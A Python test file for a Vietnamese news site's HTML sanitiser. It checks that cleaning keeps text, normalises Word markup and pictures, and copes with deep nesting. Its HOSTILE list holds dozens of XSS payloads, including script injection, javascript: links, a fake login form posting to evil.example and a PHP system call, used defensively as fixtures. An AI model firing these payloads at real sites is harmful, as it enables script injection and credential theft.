"""The allow-list: nothing that runs comes through, and nothing a person wrote is lost."""

import re
import time
from collections import Counter
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from news.text.html import clean_html
from news.text.plain import plain_text
from news.text.tidy import AWAITED_PHOTO
from tests.inert import complaints
from tests.text import markup

# --- Properties -------------------------------------------------------------------


@given(markup.anything)
def test_whatever_comes_in_what_leaves_is_inert(body):
    assert complaints(clean_html(body)) == []


@given(markup.anything)
def test_cleaning_twice_changes_nothing(body):
    once = clean_html(body)
    assert clean_html(once) == once


def letters(body: str) -> str:
    """The text of any markup without white space and invisible characters."""
    said: list[str] = []
    reader = HTMLParser(convert_charrefs=True)
    reader.handle_data = said.append
    reader.feed(body)
    reader.close()
    return re.sub(r"[\s\u200b]", "", "".join(said))


@given(markup.harmless)
def test_no_letter_is_lost_or_doubled(body):
    assert Counter(letters(clean_html(body))) == Counter(letters(body))


@given(markup.documents(markup.INLINE + markup.BLOCK + ["ul", "ol", "li"]))
def test_text_keeps_its_order(body):
    assert letters(clean_html(body)) == letters(body)


@given(markup.harmless)
def test_no_picture_is_lost_or_doubled(body):
    assert len(re.findall(r'src="/media', clean_html(body))) == len(re.findall(r'src="/media', body))


def boxes(children):
    """A block with a word first, boxes, and a word behind: no two words side by side."""
    word = st.from_regex(r"[a-zđ]{3}", fullmatch=True) | st.just("")
    return st.builds(
        lambda tag, first, inner, behind: f"<{tag}>{first}{''.join(inner)}</{tag}>{behind}",
        # Headings do not nest: a second one ends the first.
        st.sampled_from([tag for tag in markup.BLOCK if not tag.startswith("h")]),
        word,
        st.lists(children, max_size=3),
        word,
    )


@given(st.recursive(st.sampled_from(["<p>một</p>", "<h2>hai</h2>"]), boxes, max_leaves=8))
def test_blocks_part_words(body):
    words = re.sub(r"<[^>]*>", " ", body).split()
    assert plain_text(clean_html(body)).split() == words


@given(st.text(markup.VIETNAMESE + "bcghklmn ,.;:!?–“”()0123456789-/%", max_size=200))
def test_vietnamese_text_is_left_as_it_is(text):
    line = " ".join(text.split())
    assert clean_html(f"<p>{line}</p>") == (f"<p>{line}</p>" if line else "")


@given(markup.anything)
def test_a_body_does_not_grow_out_of_proportion(body):
    # The largest honest growth is <img> to a figure with the waiting picture.
    assert len(clean_html(body)) <= 30 * len(body) + 100


# --- What must not come through ---------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="/media/a.jpg" srcset="https://evil.example/a 2x" onload=alert(1)>',
    '<img src="//evil.example/a.gif">',
    '<img src="/\\evil.example/a.gif">',
    '<img src="\\\\evil.example/a.gif">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvA&#x09;sCript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="java&#0000001script:alert(1)">x</a>',
    '<a href="&#8203;//evil.example">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\t/evil.example">x</a>',
    '<a href="\n//evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="https://bao.example" target="_blank" ping="https://evil.example">x</a>',
    '<p style="position:fixed;background:url(https://evil.example)">x</p>',
    '<p style="text-align:center;behavior:url(x.htc)" class="admin-banner" id="csrf">x</p>',
    '<p lang="vi" title="x" dir="rtl" data-action="delete" tabindex="1">x</p>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Đăng nhập</button></form>",
    "<base href=https://evil.example/><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "<style>*{display:none}</style>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php system('id') ?>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<figure data-photo="1 onload=x"><img src="/media/a.jpg"></figure>',
    "<td colspan=99999999 rowspan=-1>x</td>",
    "<textarea></p><script>alert(1)</script></textarea>",
    "<x/onclick=alert(1)>x</x>",
    "<a\x00href=javascript:alert(1)>x</a>",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<p>“<b>&lt;script&gt;alert(1)&lt;/script&gt;</b>”</p>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_every_known_attack_is_inert(body):
    cleaned = clean_html(body)
    assert complaints(cleaned) == []
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize("body", HOSTILE)
@pytest.mark.parametrize(
    "frame", ["<table><tr><td>{}", "<ul><li>{}</ul>", "<figure>{}<figcaption>{}", "<b><p>{}"]
)
def test_an_attack_is_inert_in_every_surrounding(body, frame):
    cleaned = clean_html(frame.replace("{}", body))
    assert complaints(cleaned) == []
    assert clean_html(cleaned) == cleaned


def test_what_runs_goes_with_its_content_and_the_text_around_it_stays():
    assert clean_html("<p>Trước <script>alert(1)</script>sau.</p>") == "<p>Trước sau.</p>"


@pytest.mark.parametrize(
    "address",
    [
        "https://bao.example/tin?a=1&amp;b=2",
        "http://bao.example",
        "mailto:a@khoi.example",
        "tel:0205123",
        "/bai-viet/x-1/",
        "#phan-2",
    ],
)
def test_honest_links_stay(address):
    cleaned = clean_html(f'<p><a href="{address}">xem</a></p>')
    assert f'href="{address}"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_a_link_without_an_address_is_text():
    assert clean_html('<p><a name="x">xem</a></p>') == "<p>xem</p>"


# --- Size and depth ---------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "<div>" * 200_000 + "giữa",
        "<blockquote>" * 20_000 + "giữa" + "</blockquote>" * 20_000,
        "<b>" * 20_000 + "giữa",
        "<ul><li>" * 10_000 + "giữa",
        "<table><tr><td>" * 10_000 + "giữa",
        "<p>" * 50_000,
        "<" * 200_000,
        "<a href='" + "x" * 500_000,
        "&" * 200_000,
        "<figure><figcaption>" * 10_000 + "giữa",
    ],
    ids=lambda body: body[:12],
)
def test_boxes_in_boxes_end_soon(body):
    began = time.monotonic()
    cleaned = clean_html(body)
    assert complaints(cleaned) == []
    assert ("giữa" in body) == ("giữa" in cleaned)
    assert time.monotonic() - began < 60  # seconds; the parser alone would take minutes


def test_a_link_around_many_blocks_is_not_copied_into_each():
    body = f'<a href="https://bao.example/{"x" * 1900}">' + "<p>tin</p>" * 5000
    assert len(clean_html(body)) < 10 * len(body)


def test_an_address_of_unreasonable_length_is_dropped():
    assert clean_html(f'<p><a href="https://bao.example/{"x" * 3000}">xem</a></p>') == "<p>xem</p>"


# --- What Word, web pages and the editor send --------------------------------------


@pytest.mark.parametrize(
    ("given_", "kept"),
    [
        ("", ""),
        ("văn bản trần", "<p>văn bản trần</p>"),
        ("<h1>Tít</h1>", "<h2>Tít</h2>"),
        ("<h5>a</h5><h6>b</h6>", "<h4>a</h4><h4>b</h4>"),
        ("<b>đậm</b> <i>nghiêng</i>", "<p><strong>đậm</strong> <em>nghiêng</em></p>"),
        ("<div>một</div><div>hai</div>", "<p>một</p><p>hai</p>"),
        ("một<div>hai</div>ba", "<p>một</p><p>hai</p><p>ba</p>"),
        ("<div><div>một<div>hai</div></div></div>", "<p>một</p><p>hai</p>"),
        ("<p>&nbsp;&nbsp;&nbsp; Thụt đầu dòng.&nbsp;</p>", "<p>Thụt đầu dòng.</p>"),
        ("<p></p><p>&nbsp;</p><p>a</p><p><br></p>", "<p>a</p>"),
        ("<p><span lang=VI style='font-size:14pt'>Cỡ chữ</span></p>", "<p>Cỡ chữ</p>"),
        ("<p class=MsoNormal><o:p>&nbsp;</o:p>Word<o:p></o:p></p>", "<p>Word</p>"),
        ('<p style="text-align: center">a</p>', '<p class="align-center">a</p>'),
        ('<p align="RIGHT">a</p>', '<p class="align-right">a</p>'),
        ("<center>a</center>", '<p class="align-center">a</p>'),
        ("<p>a<br>b</p>", "<p>a<br>b</p>"),
        ("<strong><p>a</p><p>b</p></strong>", "<p><strong>a</strong></p><p><strong>b</strong></p>"),
        ("<ul><li>a<ul><li>b</li></ul></li></ul>", "<ul><li>a<ul><li>b</li></ul></li></ul>"),
        ("<ol start=3><li>ba</li></ol>", '<ol start="3"><li>ba</li></ol>'),
        ("<ul><li><p>a</p></li></ul>", "<ul><li><p>a</p></li></ul>"),
        ("<ul></ul><p>a</p>", "<p>a</p>"),
        ("<blockquote>trích</blockquote>", "<blockquote><p>trích</p></blockquote>"),
        ("<p>H<sub>2</sub>O, m<sup>2</sup></p>", "<p>H<sub>2</sub>O, m<sup>2</sup></p>"),
    ],
)
def test_untidy_markup_becomes_plain_blocks(given_, kept):
    assert clean_html(given_) == kept


def test_decomposed_letters_are_composed():
    assert clean_html("<p>Đa\u0309ng u\u0309y</p>") == "<p>Đảng ủy</p>"
    assert clean_html("<p>Đa&#777;ng</p>") == "<p>Đảng</p>"


def test_a_table_keeps_its_cells_and_spans():
    table = (
        "<table><caption>Kết quả</caption><thead><tr>"
        '<th scope="col" colspan="2">Đơn vị</th></tr></thead>'
        '<tbody><tr><td rowspan="2">Sở Y tế</td><td>1.289</td></tr><tr><td>12</td></tr></tbody></table>'
    )
    assert clean_html(table) == table


def test_a_table_without_anything_in_it_goes():
    assert clean_html("<table><tr><td>&nbsp;</td></tr></table><p>a</p>") == "<p>a</p>"


# --- Pictures ---------------------------------------------------------------------


def test_a_bare_picture_gets_a_figure():
    assert clean_html('<img src="/media/anh/a.jpg" alt="Hội trường">') == (
        '<figure class="image"><img src="/media/anh/a.jpg" alt="Hội trường"></figure>'
    )


def test_a_picture_in_a_paragraph_parts_it():
    cleaned = clean_html('<p>trước <img src="/media/a.jpg" alt=""> sau</p>')
    assert cleaned == ('<p>trước</p><figure class="image"><img src="/media/a.jpg" alt=""></figure><p>sau</p>')


@pytest.mark.parametrize(
    "src", ["https://bao.example/a.jpg", "data:image/png;base64,AAAA", "file:///C:/a.jpg", "a.jpg", ""]
)
def test_a_picture_that_is_not_ours_waits_for_its_photo(src):
    cleaned = clean_html(f'<p>x</p><img src="{src}" alt="Hội trường">')
    assert f'<img src="{AWAITED_PHOTO}" alt="Hội trường">' in cleaned
    assert "bao.example" not in cleaned


def test_a_figure_keeps_photo_side_and_caption():
    figure = (
        '<figure class="image image-left" data-photo="7"><img src="/media/a.jpg" alt="A">'
        "<figcaption>Đại biểu <em>biểu quyết</em></figcaption></figure>"
    )
    assert clean_html(figure) == figure


def test_a_caption_without_a_picture_waits_for_one():
    cleaned = clean_html("<figure><figcaption>Quang cảnh hội nghị</figcaption></figure>")
    assert cleaned == (
        f'<figure class="image"><img src="{AWAITED_PHOTO}" alt="">'
        "<figcaption>Quang cảnh hội nghị</figcaption></figure>"
    )


def test_two_pictures_in_a_figure_become_two_figures():
    cleaned = clean_html(
        '<figure><img src="/media/a.jpg" alt=""><img src="/media/b.jpg" alt=""><figcaption>Hai ảnh</figcaption></figure>'
    )
    assert cleaned.count("<figure") == 2
    assert cleaned.index("a.jpg") < cleaned.index("Hai ảnh") < cleaned.index("b.jpg")


def test_a_picture_in_a_caption_is_kept():
    cleaned = clean_html(
        '<figure><img src="/media/a.jpg" alt=""><figcaption>Chữ <img src="/media/b.jpg" alt=""></figcaption></figure>'
    )
    assert cleaned.count("<figure") == 2
    assert "<figcaption>Chữ</figcaption>" in cleaned


def test_a_caption_is_one_line_of_text():
    cleaned = clean_html(
        '<figure><img src="/media/a.jpg"><figcaption><p>a</p><ul><li>b</li></ul></figcaption></figure>'
    )
    assert "<figcaption>a b</figcaption>" in cleaned


def test_a_figure_in_a_table_cell_stays_there():
    cleaned = clean_html('<table><tr><td><img src="/media/a.jpg" alt=""></td><td>x</td></tr></table>')
    assert '<td><figure class="image">' in cleaned


def test_a_stroke_after_a_tag_does_not_eat_the_tag():
    assert clean_html("<p>\u0338abc</p>") == "<p>abc</p>"
    assert clean_html("<p>&#824;abc</p>") == "<p>abc</p>"
